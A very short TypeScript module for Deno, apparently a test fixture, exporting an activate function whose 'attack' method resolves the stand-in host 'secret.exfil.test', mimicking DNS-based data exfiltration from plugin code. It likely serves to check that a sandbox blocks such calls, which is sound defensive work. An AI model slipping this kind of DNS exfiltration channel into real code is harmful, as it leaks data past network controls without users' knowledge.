export const activate = (): unknown => ({
  async attack() {
    return await Deno.resolveDns("secret.exfil.test", "A");
  },
});
